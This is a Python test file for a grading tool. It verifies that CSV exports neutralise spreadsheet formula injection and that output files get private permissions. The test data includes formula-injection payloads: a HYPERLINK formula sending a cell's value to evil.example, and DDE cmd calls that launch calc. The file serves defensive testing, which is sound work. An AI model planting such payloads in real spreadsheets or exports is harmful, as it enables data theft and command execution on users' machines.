"""The gradebook's exports (grading/report.py, store.csv_text) and --out's permissions, without a kernel.

No CSV cell that a student could choose (file name, student id, path, message) or that came from the
roster opens as a formula in a spreadsheet (OWASP: a cell starting with `=`, `+`, `-`, `@`, tab or CR
gets a leading `'`), in any of the 7 CSV exports; and every file the grader writes into --out is the
instructor's alone, whatever the umask. The real grading run with formula file names is in
tests/test_grade_attacks.py (test_file_names_that_are_formulas_give_no_formula_cell_in_any_csv_export).
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from bpkit.checks import EXERCISES
from bpkit.grading.gradebook import Result, make_row
from bpkit.grading.report import write_exports
from bpkit.grading.store import Store
from bpkit.grading.tables import csv_cell, csv_text
from course_facts import exercise_points, lesson_points

STARTS = ["=", "+", "-", "@", "\t", "\r"]
CSV_EXPORTS = {"grades", "summary", "history", "table", "nbgrader", "canvas", "moodle", "unmatched"}
IDS = [eid for eid, exercise in EXERCISES.items() if exercise.lesson == "01"]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"click")'
STUDENTS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "plain"]
ROSTER = [
    {"id": HYPERLINK, "name": "@Mallory =Evil", "email": "+mallory@example.com"},
    {"id": "-absent", "name": "\r=CR Name", "email": "\t=x@example.com"},  # on the roster, handed nothing in
    {"id": "plain", "name": "Pat Plain", "email": "pat@example.com"},
]


@pytest.fixture
def umask_022():
    """The usual umask, under which files would be rw-r--r-- and folders rwxr-xr-x."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def fill(store: Store) -> None:
    """One lesson-01 submission for each student in STUDENTS; every text a student chose starts a formula."""
    store.set_roster(ROSTER)
    store.set_due(["01"], "2026-12-01T23:59")
    for i, student in enumerate(STUDENTS):
        path = f"{student}_01.ipynb"
        passed = IDS[: i % 3]
        rows = [
            make_row(
                path,
                student,
                "01",
                eid,
                EXERCISES[eid].points if eid in passed else 0,
                EXERCISES[eid].points,
                "pass" if eid in passed else "fail",
                "" if eid in passed else "-1.0 expected, =SUM(A1) received",
            )
            for eid in IDS
        ]
        result = Result(path, student, "01", rows, notes=["=cmd|'x'!A0 in a cell"], flags=["not-in-roster"])
        store.add(result, path, f"{i:064x}", f"2026-11-0{i + 1}T10:00:00", "2026-11-30T12:00:00")


def read_cells_text(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("start", STARTS)
def test_a_text_cell_that_starts_a_formula_gets_a_quote(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["alice", "", "'=already text", " =1+1", "01", "100.0", "a=b-c+d@e"])
def test_other_text_is_left_as_it_is(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [0, 4, 13, 2.5])
def test_numbers_stay_numbers_for_the_lms_importers(value):
    assert csv_cell(value) == value


def test_csv_text_neutralises_header_and_cells_and_keeps_the_rest_of_each_value():
    text = csv_text(["=head", "n"], [{"=head": "-1,\n=2", "n": 3}, {"n": 0}])
    assert read_cells_text(text) == [["'=head", "n"], ["'-1,\n=2", "3"], ["", "0"]]
    assert text.endswith("\r\n") and text.count("\r\n") == 3


@pytest.mark.parametrize("inside", ["\r", "\n", "\r\n"])
def test_a_line_break_inside_a_cell_cannot_start_a_row_whose_first_cell_is_a_formula(inside):
    # Written unquoted with \n line ends, "x\r=1+1" was read back as two rows, the second "=1+1"
    assert read_cells_text(csv_text(["name"], [{"name": f"x{inside}=1+1"}])) == [["name"], [f"x{inside}=1+1"]]


def test_no_cell_of_any_csv_export_is_a_formula_and_every_value_is_kept(tmp_path):
    store = Store(tmp_path / "out")
    fill(store)
    written = write_exports(store)
    store.close()
    csvs = {name: path for name, path in written.items() if path.suffix == ".csv"}
    assert set(csvs) == CSV_EXPORTS
    every = {}
    for name, path in csvs.items():
        cells = [cell for row in read_cells(path) for cell in row]
        formulas = [cell for cell in cells if cell[:1] in STARTS]
        assert not formulas, (name, formulas)
        every[name] = set(cells)
    on_roster = {r["id"] for r in ROSTER}
    for name, cells in every.items():  # each student appears in each export, as text; the LMS ones are
        # the roster's only (an LMS refuses a whole import for one unknown user), the others are in unmatched
        expected = {"canvas": on_roster, "moodle": on_roster, "unmatched": set(STUDENTS) - on_roster}.get(
            name, STUDENTS
        )
        missing = [s for s in expected if s in STUDENTS and csv_cell(s) not in cells]
        assert not missing, (name, missing)
    for name in ("canvas", "moodle"):
        strangers = [s for s in set(STUDENTS) - on_roster if csv_cell(s) in every[name]]
        assert not strangers, (name, strangers)
    assert "'-absent" in every["summary"] and "'-absent" in every["canvas"]  # the roster-only student
    assert {"'@Mallory =Evil", "'+mallory@example.com"} <= every["moodle"]
    assert "'\r=CR Name" in every["summary"] and "'\t=x@example.com" in every["nbgrader"]
    assert "'-1.0 expected, =SUM(A1) received" in every["grades"]
    assert any(cell.endswith("_01.ipynb") and cell.startswith("'=HYPERLINK") for cell in every["history"])
    canvas = read_cells(csvs["canvas"])
    most = lesson_points("01")
    points = canvas[0].index(f"bpkit lesson 01 ({most} points)")
    # Points Possible, then the roster's students only: 0, missing (blank), the first two exercises'; unquoted
    two = sum(exercise_points(eid) for eid in IDS[:2])
    assert sorted(row[points] for row in canvas[1:]) == sorted(["", "0", str(two), str(most)])


def modes(root: Path) -> dict[str, str]:
    """Permissions of root and everything under it, by relative path."""
    found = {".": root}
    found.update({str(p.relative_to(root)): p for p in root.rglob("*")})
    return {name: oct(p.stat().st_mode & 0o777) for name, p in found.items()}


def assert_private(out: Path) -> None:
    """--out and every folder in it rwx------, every file in it rw-------."""
    found = modes(out)
    assert {"gradebook.sqlite", ".bpkit-key", "grades.csv", "exports/moodle.csv", "report.html"} <= set(found)
    assert any(name.startswith("feedback/") for name in found), sorted(found)
    wrong = {name: mode for name, mode in found.items() if mode != oct(0o700 if (out / name).is_dir() else 0o600)}
    assert not wrong, wrong


def test_a_new_out_folder_and_everything_in_it_are_the_instructors_alone(tmp_path, umask_022):
    out = tmp_path / "course" / "grades"
    store = Store(out)
    fill(store)
    write_exports(store)
    assert_private(out)  # while the gradebook is open: its -wal and -shm files too
    assert any(name.endswith("-wal") for name in modes(out)), sorted(modes(out))
    store.close()
    assert_private(out)
    assert modes(tmp_path / "course")["."] == oct(0o755)  # a parent made on the way: as the umask says


def test_an_empty_out_folder_is_made_private(tmp_path, umask_022):
    out = tmp_path / "grades"
    out.mkdir()
    store = Store(out)
    fill(store)
    write_exports(store)
    store.close()
    assert_private(out)


def test_a_gradebook_written_under_the_umask_by_an_earlier_version_is_made_private(tmp_path, umask_022):
    out = tmp_path / "grades"
    store = Store(out)
    fill(store)
    write_exports(store)
    store.close()
    for path in [out, *out.rglob("*")]:  # as bpkit wrote them before: rwxr-xr-x and rw-r--r--
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    os.chmod(out / ".bpkit-key", 0o600)  # the key always was private
    store = Store(out)
    fill(store)
    write_exports(store)
    store.close()
    assert_private(out)


def test_a_folder_that_holds_other_things_keeps_its_mode_and_the_grades_stay_private(tmp_path, umask_022):
    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    (home / "notes.txt").write_text("the instructor's own file")
    os.chmod(home / "notes.txt", 0o644)
    store = Store(home)  # say, --out .
    fill(store)
    write_exports(store)
    store.close()
    found = modes(home)
    assert found["."] == oct(0o755) and found["notes.txt"] == oct(0o644)  # not ours to change
    assert found["feedback"] == found["exports"] == oct(0o700)
    ours = {
        name: mode
        for name, mode in found.items()
        if name not in (".", "notes.txt", "feedback", "exports") and (home / name).is_file()
    }
    assert ours and set(ours.values()) == {oct(0o600)}, ours
